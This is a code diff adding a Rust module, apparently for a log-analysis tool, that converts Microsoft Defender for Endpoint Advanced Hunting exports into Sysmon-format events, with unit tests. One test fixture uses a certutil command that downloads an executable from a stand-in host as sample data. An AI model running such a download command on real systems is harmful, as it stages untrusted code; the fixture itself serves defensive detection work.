@@ -0,0 +1,284 @@
+use crate::detections::utils;
+use serde_json::{json, Map, Value};
+use std::fs::{self, File};
+use std::io::{BufRead, BufReader, Read};
+use std::path::Path;
+
+// Sysmonのルールで検知できるように、変換したイベントはSysmonのチャンネルとイベントIDにする
+const SYSMON_CHANNEL: &str = "Microsoft-Windows-Sysmon/Operational";
+// 変換したイベントのプロバイダ名。evtxファイルのSysmonのイベントと区別するため
+const PROVIDER_NAME: &str = "Microsoft-Defender-for-Endpoint";
+// Advanced Huntingのエクスポートかを判定するための、全てのテーブルにある列
+const REQUIRED_COLUMNS: [&str; 3] = ["Timestamp", "DeviceName", "ActionType"];
+// JSONのエクスポートかを判定する時に読み込むサイズ
+const SNIFF_LEN: u64 = 4096;
+
+// DeviceProcessEventsの列とSysmonの1(プロセス作成)のフィールドの対応
+const PROCESS_FIELDS: &[(&str, &str)] = &[
+    ("FolderPath", "Image"),
+    ("ProcessCommandLine", "CommandLine"),
+    ("ProcessId", "ProcessId"),
+    ("ProcessIntegrityLevel", "IntegrityLevel"),
+    ("ProcessVersionInfoOriginalFileName", "OriginalFileName"),
+    ("ProcessVersionInfoCompanyName", "Company"),
+    ("ProcessVersionInfoProductName", "Product"),
+    ("ProcessVersionInfoFileDescription", "Description"),
+    ("LogonId", "LogonId"),
+    ("InitiatingProcessFolderPath", "ParentImage"),
+    ("InitiatingProcessCommandLine", "ParentCommandLine"),
+    ("InitiatingProcessId", "ParentProcessId"),
+];
+
+// DeviceNetworkEventsの列とSysmonの3(ネットワーク接続)のフィールドの対応
+const NETWORK_FIELDS: &[(&str, &str)] = &[
+    ("InitiatingProcessFolderPath", "Image"),
+    ("InitiatingProcessId", "ProcessId"),
+    ("LocalIP", "SourceIp"),
+    ("LocalPort", "SourcePort"),
+    ("RemoteIP", "DestinationIp"),
+    ("RemotePort", "DestinationPort"),
+    ("RemoteUrl", "DestinationHostname"),
+];
+
+// DeviceNetworkEventsで外部からの接続を表すActionType。Sysmonの3のInitiatedをfalseにする
+const INBOUND_ACTIONS: [&str; 2] = ["InboundConnectionAccepted", "ListeningConnectionCreated"];
+
+/**
+* Microsoft Defender for EndpointのAdvanced HuntingからエクスポートしたCSVかJSONのファイルかを判定する。
+* 拡張子に加えて、ファイルの先頭にTimestamp、DeviceName、ActionTypeの列があるかを確認する。
+*/
+pub fn is_mde_file(path: &Path) -> bool {
+    let ext = path
+        .extension()
+        .and_then(|ext| ext.to_str())
+        .map(|ext| ext.to_lowercase())
+        .unwrap_or_default();
+    if ext != "csv" && ext != "json" {
+        return false;
+    }
+    let mut head = String::new();
+    let read = File::open(path).and_then(|file| {
+        if ext == "csv" {
+            BufReader::new(file).read_line(&mut head)
+        } else {
+            file.take(SNIFF_LEN).read_to_string(&mut head)
+        }
+    });
+    read.is_ok() && REQUIRED_COLUMNS.iter().all(|column| head.contains(column))
+}
+
+/**
+* Advanced HuntingのエクスポートをSysmonのイベントと同じ形式のJSONに変換して返す。
+* DeviceProcessEventsはSysmonの1、DeviceNetworkEventsはSysmonの3にフィールド名を変換する。元の列もEventDataに残す。
+* 対応していないテーブルの行は読み飛ばす。
+*/
+pub fn read_mde(path: &Path) -> Result<Vec<Value>, String> {
+    let is_csv = path
+        .extension()
+        .map_or(false, |ext| ext.eq_ignore_ascii_case("csv"));
+    let rows = if is_csv {
+        read_csv_rows(path)?
+    } else {
+        read_json_rows(path)?
+    };
+    Ok(rows.iter().filter_map(convert_row).collect())
+}
+
+fn read_csv_rows(path: &Path) -> Result<Vec<Map<String, Value>>, String> {
+    let mut reader = csv::ReaderBuilder::new()
+        .flexible(true)
+        .from_path(path)
+        .map_err(|e| e.to_string())?;
+    let headers = reader.headers().map_err(|e| e.to_string())?.clone();
+    let mut rows = vec![];
+    for record in reader.records() {
+        let record = record.map_err(|e| e.to_string())?;
+        rows.push(
+            headers
+                .iter()
+                .zip(record.iter())
+                .map(|(key, value)| (key.to_string(), Value::from(value)))
+                .collect(),
+        );
+    }
+    Ok(rows)
+}
+
+// APIの{"Schema": [...], "Results": [...]}の形式と、行の配列の形式に対応する
+fn read_json_rows(path: &Path) -> Result<Vec<Map<String, Value>>, String> {
+    let contents = fs::read_to_string(path).map_err(|e| e.to_string())?;
+    let json: Value = serde_json::from_str(&contents).map_err(|e| e.to_string())?;
+    let rows = match json {
+        Value::Array(rows) => rows,
+        Value::Object(mut obj) => match obj.remove("Results") {
+            Some(Value::Array(rows)) => rows,
+            _ => return Err("The JSON file does not have the Results array.".to_string()),
+        },
+        _ => return Err("The JSON file is not an Advanced Hunting export.".to_string()),
+    };
+    Ok(rows
+        .into_iter()
+        .filter_map(|row| match row {
+            Value::Object(row) => Some(row),
+            _ => None,
+        })
+        .collect())
+}
+
+// 列の値を文字列で返す。空の値はNoneにする
+fn column(row: &Map<String, Value>, key: &str) -> Option<String> {
+    match row.get(key)? {
+        Value::String(s) if s.is_empty() => None,
+        Value::String(s) => Some(s.to_string()),
+        Value::Null => None,
+        value => Some(value.to_string()),
+    }
+}
+
+// アカウントのドメインと名前を、SysmonのUserと同じDOMAIN\nameの形式にする
+fn account(row: &Map<String, Value>, prefix: &str) -> Option<String> {
+    let name = column(row, &format!("{}AccountName", prefix))?;
+    Some(match column(row, &format!("{}AccountDomain", prefix)) {
+        Some(domain) => format!("{}\\{}", domain, name),
+        None => name,
+    })
+}
+
+fn convert_row(row: &Map<String, Value>) -> Option<Value> {
+    let (event_id, fields) = if row.contains_key("RemoteIP") {
+        (3, NETWORK_FIELDS)
+    } else if row.contains_key("ProcessCommandLine") {
+        (1, PROCESS_FIELDS)
+    } else {
+        return None;
+    };
+    let mut event_data = row.clone();
+    for (column_name, field) in fields {
+        if let Some(value) = column(row, column_name) {
+            event_data.insert(field.to_string(), Value::from(value));
+        }
+    }
+    let action_type = column(row, "ActionType").unwrap_or_default();
+    if event_id == 1 {
+        if let Some(user) = account(row, "") {
+            event_data.insert("User".to_string(), Value::from(user));
+        }
+        if let Some(user) = account(row, "InitiatingProcess") {
+            event_data.insert("ParentUser".to_string(), Value::from(user));
+        }
+        let hashes: Vec<String> = ["SHA1", "MD5", "SHA256"]
+            .iter()
+            .filter_map(|algorithm| {
+                column(row, algorithm).map(|hash| format!("{}={}", algorithm, hash))
+            })
+            .collect();
+        if !hashes.is_empty() {
+            event_data.insert("Hashes".to_string(), Value::from(hashes.join(",")));
+        }
+    } else {
+        if let Some(user) = account(row, "InitiatingProcess") {
+            event_data.insert("User".to_string(), Value::from(user));
+        }
+        if let Some(protocol) = column(row, "Protocol") {
+            event_data.insert("Protocol".to_string(), Value::from(protocol.to_lowercase()));
+        }
+        let initiated = !INBOUND_ACTIONS.contains(&action_type.as_str());
+        event_data.insert("Initiated".to_string(), Value::from(initiated.to_string()));
+    }
+
+    let mut system = json!({
+        "Provider_attributes": { "Name": PROVIDER_NAME },
+        "EventID": event_id,
+        "Channel": SYSMON_CHANNEL,
+        "Computer": column(row, "DeviceName").unwrap_or_else(|| "-".to_string()),
+        "TimeCreated_attributes": {
+            "SystemTime": utils::to_system_time(&column(row, "Timestamp")?),
+        },
+    });
+    if let Some(report_id) = column(row, "ReportId").and_then(|id| id.parse::<u64>().ok()) {
+        system["EventRecordID"] = Value::from(report_id);
+    }
+    Some(json!({ "Event": { "System": system, "EventData": event_data } }))
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::mde::{convert_row, is_mde_file};
+    use serde_json::{json, Value};
+    use std::path::Path;
+
+    fn row(value: Value) -> serde_json::Map<String, Value> {
+        value.as_object().unwrap().clone()
+    }
+
+    #[test]
+    fn test_convert_process_row() {
+        let record = convert_row(&row(json!({
+            "Timestamp": "2022-05-20T10:00:00.1234567Z",
+            "DeviceName": "pc01.example.local",
+            "ActionType": "ProcessCreated",
+            "FolderPath": "C:\\Windows\\System32\\certutil.exe",
+            "ProcessCommandLine": "certutil -urlcache -f http://example.com/a.exe",
+            "AccountDomain": "EXAMPLE",
+            "AccountName": "taro",
+            "SHA256": "abc",
+            "MD5": "",
+            "InitiatingProcessFolderPath": "C:\\Windows\\System32\\cmd.exe",
+            "ReportId": 1234,
+        })))
+        .unwrap();
+        let system = &record["Event"]["System"];
+        assert_eq!(system["EventID"], 1);
+        assert_eq!(system["Channel"], "Microsoft-Windows-Sysmon/Operational");
+        assert_eq!(system["Computer"], "pc01.example.local");
+        assert_eq!(system["EventRecordID"], 1234);
+        assert_eq!(
+            system["TimeCreated_attributes"]["SystemTime"],
+            "2022-05-20T10:00:00.123456Z"
+        );
+        let event_data = &record["Event"]["EventData"];
+        assert_eq!(event_data["Image"], "C:\\Windows\\System32\\certutil.exe");
+        assert_eq!(
+            event_data["CommandLine"],
+            "certutil -urlcache -f http://example.com/a.exe"
+        );
+        assert_eq!(event_data["ParentImage"], "C:\\Windows\\System32\\cmd.exe");
+        assert_eq!(event_data["User"], "EXAMPLE\\taro");
+        assert_eq!(event_data["Hashes"], "SHA256=abc");
+        assert_eq!(event_data["ActionType"], "ProcessCreated");
+    }
+
+    #[test]
+    fn test_convert_network_row() {
+        let record = convert_row(&row(json!({
+            "Timestamp": "2022-05-20 10:00:00",
+            "DeviceName": "pc01",
+            "ActionType": "InboundConnectionAccepted",
+            "RemoteIP": "10.0.0.5",
+            "RemotePort": "50000",
+            "LocalPort": "3389",
+            "Protocol": "Tcp",
+        })))
+        .unwrap();
+        assert_eq!(record["Event"]["System"]["EventID"], 3);
+        let event_data = &record["Event"]["EventData"];
+        assert_eq!(event_data["DestinationIp"], "10.0.0.5");
+        assert_eq!(event_data["SourcePort"], "3389");
+        assert_eq!(event_data["Protocol"], "tcp");
+        assert_eq!(event_data["Initiated"], "false");
+
+        // 対応していないテーブルの行は変換しない
+        assert!(convert_row(&row(json!({
+            "Timestamp": "2022-05-20T10:00:00Z",
+            "DeviceName": "pc01",
+            "ActionType": "FileCreated",
+        })))
+        .is_none());
+    }
+
+    #[test]
+    fn test_mde_file() {
+        assert!(!is_mde_file(Path::new("test_files/evtx/test1.evtx")));
+        assert!(!is_mde_file(Path::new("test_files/not_exist.csv")));
+    }
+}